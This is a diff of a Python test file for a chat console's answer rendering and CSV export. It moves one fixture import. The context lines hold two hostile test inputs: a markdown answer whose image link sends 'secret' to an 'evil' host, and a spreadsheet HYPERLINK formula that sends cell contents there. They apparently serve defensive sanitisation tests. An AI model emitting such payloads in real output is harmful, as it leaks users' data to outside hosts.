@@ -18,7 +18,7 @@ from backend.exports import csv_dicts, frame_csv, safe_cell
 from backend.golden import GoldItem, GoldRef, export_csv
 from console.markup import answer_md, with_citation_badges
 from actors import ADMIN
-from test_console_apptest import ask, chat_page, console_config, data_dir, extractive  # noqa: F401 - fixtures
+from apptest_kit import ask, chat_page, console_config, data_dir, extractive  # noqa: F401 - fixtures
 
 EVIL_ANSWER = "The answer [1]. ![x](http://evil/?q=secret) Also [click](http://evil) and <http://evil/a>."
 FORMULA = '=HYPERLINK("http://evil/?d="&A1,"click")'
